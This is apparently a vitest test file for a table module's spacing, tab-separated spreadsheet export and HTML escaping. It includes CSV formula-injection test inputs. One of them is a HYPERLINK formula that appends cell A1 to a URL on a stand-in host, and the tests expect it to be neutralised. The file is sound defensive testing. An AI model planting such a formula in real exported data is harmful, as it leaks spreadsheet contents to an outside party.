import { describe, expect, it } from 'vitest'
import type { Table } from '../documents/types'
import { html, sizeOf, slotsOf, tabbed } from './tables'

function cell(
  text: string,
  row: number,
  column: number,
  rowSpan = 1,
  columnSpan = 1,
): Table['cells'][number] {
  return { text, polygon: [], row, column, row_span: rowSpan, column_span: columnSpan }
}

const table: Table = {
  polygon: [],
  cells: [cell('Wide & <b>', 0, 0, 1, 2), cell('High', 0, 2, 2), cell('a\tb', 1, 0), cell('c', 2, 2)],
}

describe('a table', () => {
  it('has its spans, and empty slots where no cell is', () => {
    expect(sizeOf(table)).toEqual({ rows: 3, columns: 3 })
    expect(slotsOf(table).map((row) => row.map((slot) => slot?.text ?? null))).toEqual([
      ['Wide & <b>', 'High'],
      ['a\tb', null],
      [null, null, 'c'],
    ])
  })

  it('is text for a spreadsheet, each cell in its own column', () => {
    expect(tabbed(table)).toBe('Wide & <b>\t\tHigh\na b\t\t\n\t\tc')
  })

  it('is HTML in which its text stays text', () => {
    expect(html(table)).toContain('<td colspan="2">Wide &#38; &#60;b&#62;</td><td rowspan="2">High</td>')
  })

  it.each([
    ['=HYPERLINK("http://x.example/?"&A1)', `'=HYPERLINK("http://x.example/?"&A1)`],
    [" '=1+1", "''=1+1"],
    ['-2+3', "'-2+3"],
    ['＝1', "'＝1"],
    ['-12.50', '-12.50'],
    ['+3%', '+3%'],
    ['—', '—'],
    ['--', '--'],
    ['a=b', 'a=b'],
  ])('with %j runs no formula where it is pasted, and keeps its numbers', (text, pasted) => {
    const one = { ...table, cells: [cell(text, 0, 0)] }
    expect(tabbed(one)).toBe(pasted)
    const element = document.createElement('div')
    element.innerHTML = html(one)
    expect(element.querySelector('td')?.textContent.trim()).toBe(pasted)
  })

  it('without cells is empty', () => {
    expect(slotsOf({ polygon: [], cells: [] })).toEqual([])
  })
})
